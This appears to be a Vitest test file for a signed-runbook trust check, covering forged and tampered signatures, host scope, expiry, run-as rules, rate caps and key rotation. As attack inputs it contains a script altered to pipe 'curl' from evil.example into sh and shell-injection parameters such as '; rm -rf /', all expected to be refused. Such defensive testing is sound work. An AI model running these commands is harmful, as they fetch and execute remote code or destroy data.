/**
 * Attack tests for the trust check: every way a compromised control plane (or a network attacker, or a stolen
 * repository) might try to get something run that its owner did not sign, each refused with its stable code.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { durationSeconds } from '../manifest';
import { signPayload } from './envelope';
import { generateSigningKey, parseJwks, parsePrivateKey, type SigningKey } from './keys';
import { resolveTrust, signRotation } from './rotation';
import {
  buildStatement,
  type RunbookStatement,
  type SignatureFile,
  STATEMENT_TYP,
  signStatement,
} from './statement';
import { checkTrust, REFUSAL_CODES, type TrustInput } from './trust';

function newKey(): { key: SigningKey; jwksText: string } {
  const { privatePem, jwks } = generateSigningKey();
  return { key: parsePrivateKey(privatePem, 'test.key'), jwksText: JSON.stringify(jwks) };
}

const owner = newKey();
const attacker = newKey();
const trusted = parseJwks(owner.jwksText, 'trust.jwks');
const NOW = new Date('2026-12-01T12:00:00Z');
const SCRIPT = Buffer.from('#!/bin/sh\nsystemctl restart "$NP_SERVICE"\n');

function statementFor(overrides: Partial<RunbookStatement> = {}): RunbookStatement {
  const base = buildStatement({
    script: SCRIPT,
    manifest: {
      name: 'restart-service',
      description: 'Restart a service.',
      mode: 'remediate',
      timeout: '2m',
      run_as: 'neptune',
      hosts: ['web-*', 'role=frontend'],
      params: {
        service: { pattern: '[a-z0-9-]{1,32}', required: true },
        mode: { enum: ['soft', 'hard'], default: 'soft' },
        note: { maxLength: 8 },
      },
      caps: { max: 3, per: '1h', cooldown: '5m' },
    },
    version: '1.0.0',
    issuedAt: new Date('2026-11-30T00:00:00Z'),
    notBefore: new Date('2026-11-30T00:00:00Z'),
    expiresAt: new Date('2027-02-28T00:00:00Z'),
    seconds: durationSeconds,
  });
  return { ...base, ...overrides };
}

function input(
  overrides: Partial<TrustInput> = {},
  sig: SignatureFile = signStatement(statementFor(), owner.key),
): TrustInput {
  return {
    keys: trusted,
    signature: JSON.stringify(sig),
    script: SCRIPT,
    params: { service: 'nginx' },
    host: { hostname: 'web-1.example.net', tags: { role: 'frontend' } },
    runAs: 'neptune',
    now: NOW,
    ...overrides,
  };
}

const codeOf = (i: TrustInput) => {
  const d = checkTrust(i);
  return d.ok ? 'ok' : d.code;
};

describe('checkTrust: what the owner signed runs', () => {
  it('allows the signed runbook, filling in signed defaults', () => {
    const d = checkTrust(input());
    expect(d).toMatchObject({ ok: true, kid: owner.key.kid, params: { service: 'nginx', mode: 'soft' } });
  });

  it('matches hosts by glob (case-insensitive), alias and tag', () => {
    expect(codeOf(input({ host: { hostname: 'WEB-2' } }))).toBe('ok');
    expect(codeOf(input({ host: { hostname: 'db-1', aliases: ['web-legacy'] } }))).toBe('ok');
    expect(codeOf(input({ host: { hostname: 'db-1', tags: { role: 'frontend' } } }))).toBe('ok');
  });

  it('has a stable list of refusal codes', () => {
    expect(REFUSAL_CODES).toMatchInlineSnapshot(`
      [
        "unsigned",
        "bad_signature",
        "unknown_key",
        "wrong_runbook",
        "not_yet_valid",
        "expired",
        "script_changed",
        "run_as_not_allowed",
        "host_out_of_scope",
        "param_out_of_schema",
        "cap_exceeded",
      ]
    `);
  });
});

describe('checkTrust: attacks, each refused with its reason', () => {
  it('unsigned: no signature at all', () => {
    for (const signature of [null, undefined, '']) expect(codeOf(input({ signature }))).toBe('unsigned');
  });

  it('bad_signature: a forged signature (bytes flipped)', () => {
    const sig = signStatement(statementFor(), owner.key);
    const forged = { ...sig, sig: `${sig.sig[0] === 'A' ? 'B' : 'A'}${sig.sig.slice(1)}` };
    expect(codeOf(input({ signature: JSON.stringify(forged) }))).toBe('bad_signature');
  });

  it('bad_signature: a signed statement edited afterwards (wider hosts, longer expiry, new script hash)', () => {
    const sig = signStatement(statementFor(), owner.key);
    for (const edit of [
      { hosts: ['*'] },
      { expires_at: '2099-01-01T00:00:00.000Z' },
      { run_as: 'root' },
      { params: { service: { required: true } } },
      { caps: null },
    ]) {
      const tampered = { ...sig, statement: { ...sig.statement, ...edit } };
      expect(codeOf(input({ signature: JSON.stringify(tampered) })), JSON.stringify(edit)).toBe(
        'bad_signature',
      );
    }
  });

  it('bad_signature: garbage, another format, a wrong alg, or a signature made for another purpose (typ)', () => {
    expect(codeOf(input({ signature: 'not json' }))).toBe('bad_signature');
    expect(codeOf(input({ signature: '{"format":"x"}' }))).toBe('bad_signature');
    // already parsed (as inside an assignment): the same checks
    expect(codeOf(input({ signature: { format: 'x' } as never }))).toBe('bad_signature');
    expect(codeOf(input({ signature: [] as never }))).toBe('bad_signature');
    expect(codeOf(input({ signature: signStatement(statementFor(), owner.key) }))).toBe('ok');
    const sig = signStatement(statementFor(), owner.key);
    expect(codeOf(input({ signature: JSON.stringify({ ...sig, alg: 'none' }) }))).toBe('bad_signature');
    // The same key signing the same bytes as an audit checkpoint must not pass as a runbook signature.
    const other = signPayload(sig.statement, 'neptune-audit-checkpoint+jcs', owner.key);
    expect(codeOf(input({ signature: JSON.stringify({ ...sig, ...other, typ: STATEMENT_TYP }) }))).toBe(
      'bad_signature',
    );
  });

  it('unknown_key: signed by a key the agent does not trust', () => {
    const sig = signStatement(statementFor(), attacker.key);
    expect(codeOf(input({}, sig))).toBe('unknown_key');
    // ... also when the attacker claims the owner's kid
    const claimed = { ...sig, kid: owner.key.kid };
    expect(codeOf(input({ signature: JSON.stringify(claimed) }))).toBe('bad_signature');
  });

  it('script_changed: an altered script with the original signature', () => {
    const altered = Buffer.from(`${SCRIPT.toString()}curl -s https://evil.example | sh\n`);
    const d = checkTrust(input({ script: altered }));
    expect(d).toMatchObject({ ok: false, code: 'script_changed' });
  });

  it('param_out_of_schema: shell injection, unknown params, wrong types, too long, not in enum, missing', () => {
    const cases: Record<string, unknown>[] = [
      { service: '; rm -rf /' },
      { service: 'nginx; rm -rf /' }, // the pattern matches a prefix: it must match the whole value
      { service: 'nginx\nrm -rf /' },
      { service: 'nginx', extra: 'x' },
      { service: 42 },
      { service: 'nginx\0' },
      { service: 'nginx', mode: 'rm' },
      { service: 'nginx', note: 'ninechars' },
      {},
      { service: 'a'.repeat(33) },
    ];
    for (const params of cases) {
      const d = checkTrust(input({ params }));
      expect(d.ok ? 'ok' : d.code, JSON.stringify(params)).toBe('param_out_of_schema');
    }
  });

  it('param_out_of_schema: a name inherited from Object.prototype is not a declared param', () => {
    expect(codeOf(input({ params: JSON.parse('{"service":"nginx","__proto__":"x"}') }))).toBe(
      'param_out_of_schema',
    );
    expect(codeOf(input({ params: { service: 'nginx', toString: 'x' } }))).toBe('param_out_of_schema');
  });

  it('host_out_of_scope: a host the statement does not name', () => {
    expect(codeOf(input({ host: { hostname: 'db-1.example.net', tags: { role: 'backend' } } }))).toBe(
      'host_out_of_scope',
    );
    // a glob is anchored: "web-*" does not match "xweb-1", and "." in a name is literal
    expect(codeOf(input({ host: { hostname: 'xweb-1' } }))).toBe('host_out_of_scope');
  });

  it('expired and not_yet_valid, with 60 s of clock skew allowed', () => {
    expect(codeOf(input({ now: new Date('2027-02-28T00:00:59Z') }))).toBe('ok');
    expect(codeOf(input({ now: new Date('2027-02-28T00:01:00Z') }))).toBe('expired');
    expect(codeOf(input({ now: new Date('2026-11-29T23:59:01Z') }))).toBe('ok');
    expect(codeOf(input({ now: new Date('2026-11-29T23:58:59Z') }))).toBe('not_yet_valid');
    expect(codeOf(input({ now: new Date('2027-02-28T00:00:01Z'), policy: { skewSeconds: 0 } }))).toBe(
      'expired',
    );
  });

  it('run_as_not_allowed: another user than signed, or root without local consent', () => {
    expect(codeOf(input({ runAs: 'root' }))).toBe('run_as_not_allowed');
    const rootSig = signStatement(statementFor({ run_as: 'root' }), owner.key);
    expect(codeOf(input({ runAs: 'root' }, rootSig))).toBe('run_as_not_allowed');
    expect(codeOf(input({ runAs: 'root', policy: { allowRunAs: ['root'] } }, rootSig))).toBe('ok');
    // One policy (src/core/run-as.ts): the agent's own user needs no listing, anyone else does, root always does.
    expect(codeOf(input({ policy: { allowRunAs: ['deploy'] } }))).toBe('ok');
    expect(codeOf(input({ policy: { allowRunAs: ['deploy'], agentUser: 'agent' } }))).toBe(
      'run_as_not_allowed',
    );
    expect(codeOf(input({ policy: { agentUser: 'agent' } }))).toBe('run_as_not_allowed');
    expect(codeOf(input({ runAs: 'root', policy: { agentUser: 'root' } }, rootSig))).toBe(
      'run_as_not_allowed',
    );
  });

  it('wrong_runbook: the server says one runbook and sends another signed one', () => {
    expect(codeOf(input({ expect: { name: 'restart-service', version: '1.0.0' } }))).toBe('ok');
    expect(codeOf(input({ expect: { name: 'rotate-logs' } }))).toBe('wrong_runbook');
    expect(codeOf(input({ expect: { version: '0.9.0' } }))).toBe('wrong_runbook');
  });

  it('cap_exceeded: the agent counts from its own ledger, whatever the server says', () => {
    const minutesAgo = (m: number) => new Date(NOW.getTime() - m * 60_000);
    expect(codeOf(input({ history: [minutesAgo(50), minutesAgo(30)] }))).toBe('ok');
    expect(codeOf(input({ history: [minutesAgo(50), minutesAgo(30), minutesAgo(10)] }))).toBe('cap_exceeded');
    expect(codeOf(input({ history: [minutesAgo(2)] }))).toBe('cap_exceeded'); // cooldown 5 min
    expect(codeOf(input({ history: [minutesAgo(120), minutesAgo(90), minutesAgo(61)] }))).toBe('ok');
  });
});

describe('key rotation', () => {
  const next = newKey();
  const at = '2026-11-30T00:00:00.000Z';

  it('accepts a new key only through a rotation signed by a trusted key', () => {
    const rotation = signRotation(
      { add: JSON.parse(next.jwksText).keys, revoke: [], issued_at: at, not_before: at },
      owner.key,
    );
    const resolved = resolveTrust(trusted, [rotation], NOW);
    expect(resolved.outcomes[0]).toMatchObject({ accepted: true });
    const sig = signStatement(statementFor(), next.key);
    expect(codeOf(input({ keys: resolved.keys }, sig))).toBe('ok');
    // without the rotation the new key is unknown
    expect(codeOf(input({}, sig))).toBe('unknown_key');
  });

  it('refuses a rotation signed by an untrusted key, or tampered with', () => {
    const bogus = signRotation(
      { add: JSON.parse(attacker.jwksText).keys, revoke: [], issued_at: at, not_before: at },
      attacker.key,
    );
    const resolved = resolveTrust(trusted, [bogus], NOW);
    expect(resolved.outcomes[0]).toMatchObject({ accepted: false, code: 'unknown_key' });
    expect(resolved.keys.map((k) => k.kid)).toEqual([owner.key.kid]);

    const good = signRotation(
      { add: JSON.parse(next.jwksText).keys, revoke: [], issued_at: at, not_before: at },
      owner.key,
    );
    const swapped = { ...good, statement: { ...good.statement, add: JSON.parse(attacker.jwksText).keys } };
    expect(resolveTrust(trusted, [swapped], NOW).outcomes[0]).toMatchObject({
      accepted: false,
      code: 'bad_signature',
    });
  });

  it('chains (old -> new -> newer) in issue order, and a revoked key stays revoked', () => {
    const newer = newKey();
    const r1 = signRotation(
      { add: JSON.parse(next.jwksText).keys, revoke: [owner.key.kid], issued_at: at, not_before: at },
      owner.key,
    );
    const later = '2026-11-30T01:00:00.000Z';
    const r2 = signRotation(
      { add: JSON.parse(newer.jwksText).keys, revoke: [], issued_at: later, not_before: later },
      next.key,
    );
    // Arrival order does not matter; issue order does.
    const resolved = resolveTrust(trusted, [r2, r1], NOW);
    expect(resolved.outcomes.every((o) => o.accepted)).toBe(true);
    expect(resolved.keys.map((k) => k.kid).sort()).toEqual([next.key.kid, newer.key.kid].sort());
    expect(codeOf(input({ keys: resolved.keys }))).toBe('unknown_key'); // the old key was retired
    // A later rotation by a still-trusted key cannot bring the revoked key back.
    const r3 = signRotation(
      {
        add: JSON.parse(owner.jwksText).keys,
        revoke: [],
        issued_at: '2026-11-30T02:00:00.000Z',
        not_before: at,
      },
      newer.key,
    );
    expect(resolveTrust(trusted, [r1, r2, r3], NOW).keys.map((k) => k.kid)).not.toContain(owner.key.kid);
  });

  it('a rotation that is not yet valid is not applied', () => {
    const future = '2027-06-01T00:00:00.000Z';
    const r = signRotation(
      { add: JSON.parse(next.jwksText).keys, revoke: [], issued_at: at, not_before: future },
      owner.key,
    );
    expect(resolveTrust(trusted, [r], NOW).outcomes[0]).toMatchObject({
      accepted: false,
      code: 'not_yet_valid',
    });
  });
});

describe('the committed v1 signature (format stability)', () => {
  // test/fixtures/signing/restart-service.sh.v1.sig was made by `neptune runbook sign` 0.1.0; every later version
  // must still verify it. If the fixture script is edited, this fails with script_changed: sign it again.
  const fixtures = path.join(import.meta.dirname, '../../../test/fixtures/signing');
  it('still verifies, and is refused for a host outside its scope', () => {
    const keys = parseJwks(readFileSync(path.join(fixtures, 'owner.jwks'), 'utf8'), 'owner.jwks');
    const base: TrustInput = {
      keys,
      signature: readFileSync(path.join(fixtures, 'restart-service.sh.v1.sig'), 'utf8'),
      script: readFileSync(path.join(fixtures, 'restart-service.sh')),
      params: { service: 'nginx' },
      host: { hostname: 'web-3' },
      runAs: 'neptune',
      now: new Date('2026-12-15T00:00:00Z'),
    };
    expect(checkTrust(base)).toMatchObject({
      ok: true,
      statement: { name: 'restart-service', version: '1.0.0' },
    });
    expect(codeOf({ ...base, host: { hostname: 'db-3' } })).toBe('host_out_of_scope');
    expect(codeOf({ ...base, now: new Date('2027-03-02T00:00:00Z') })).toBe('expired');
  });
});
